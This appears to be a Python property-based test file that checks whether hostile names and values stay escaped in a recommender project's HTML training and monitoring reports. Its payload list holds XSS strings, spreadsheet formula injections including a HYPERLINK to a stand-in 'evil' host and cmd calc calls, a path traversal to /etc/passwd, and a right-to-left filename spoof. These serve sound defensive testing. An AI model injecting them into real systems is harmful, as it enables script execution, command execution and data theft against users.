"""Hostile values that end up in reports (docs/hardening.md).

Names, versions, categories, reasons and alarm names can come from outside (source files, an
operator, a template). Rendered into the training report (``shelfwise.report_html``) or the
monitoring report (``shelfwise report``), they must stay text: the page's element structure with
hostile strings is exactly the structure with benign ones, and no payload appears unescaped.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from shelfwise.monitoring.publish import MetricDatum
from shelfwise.monitoring.report import render_report as render_monitoring
from shelfwise.report_html import render_report as render_training

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    '=HYPERLINK("http://evil/"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../etc/passwd",
    "\u202egnp.exe",
    "caf\u00e9\u0301\u200b",
    "]]></text><script>x</script>",
]
HOSTILE = st.one_of(
    st.sampled_from(PAYLOADS), st.text(alphabet=st.sampled_from("<>\"'&=/ ab"), min_size=1, max_size=30)
)


class _Shape(HTMLParser):
    """The sequence of start tags with their attribute names: what a browser would build."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.shape: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(sorted(a for a, _ in attrs))))


def _shape(page: str) -> list[tuple[str, tuple[str, ...]]]:
    p = _Shape()
    p.feed(page)
    p.close()
    return p.shape


def _manifest(s: str) -> dict[str, Any]:
    metrics = {"ndcg@10": 0.2, "recall@10": 0.3, "map@10": 0.1, "hitrate@10": 0.4, "mrr": 0.2}
    return {
        "model_name": s,
        "version": s,
        "algorithm": s,
        "k": 10,
        "hyperparameters": {s: s, "factors": 8},
        "evaluation": {
            "models": {s: {**metrics, "segments": {"warm": metrics}}, "popularity": metrics},
            "best": s,
            "champion": {"version": s, "method": s, "metrics": metrics},
            "protocol": {"split": s},
        },
        "reference": {
            "score_histogram": {"bins": [0.0, 0.5, 1.0], "counts": [3, 4]},
            "category_mix": {s: 1.0},
        },
        "model_details": {"loss_curve": [3.0, 2.0, 1.5]},
        "parity": {"note": s},
    }


@settings(max_examples=60, deadline=None)
@given(hostile=HOSTILE)
def test_training_report_keeps_hostile_strings_as_text(hostile: str) -> None:
    page = render_training(_manifest(hostile))
    assert _shape(page) == _shape(render_training(_manifest("benign")))
    if hostile in PAYLOADS and "<" in hostile:
        assert hostile not in page


T0 = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)


def _monitoring(s: str) -> str:
    records = [
        MetricDatum("ListCTR", 0.2 - 0.01 * i, T0 + timedelta(minutes=5 * i), {"Variant": v}).to_record()
        for i in range(4)
        for v in ("champion", "challenger")
    ]
    audit = [{"action": "CanaryStarted", "version": s, "time": (T0 + timedelta(minutes=1)).isoformat()}]
    changes = [{"AlarmName": s, "NewState": "ALARM", "Timestamp": T0 + timedelta(minutes=10)}]
    decisions = [{"action": s, "at": s, "reason": s, "alarm": s}]
    return render_monitoring(records, audit=audit, alarm_changes=changes, decisions=decisions, title=s)


@settings(max_examples=60, deadline=None)
@given(hostile=HOSTILE)
def test_monitoring_report_keeps_hostile_strings_as_text(hostile: str) -> None:
    page = _monitoring(hostile)
    assert _shape(page) == _shape(_monitoring("benign"))
    if hostile in PAYLOADS and "<" in hostile:
        assert hostile not in page
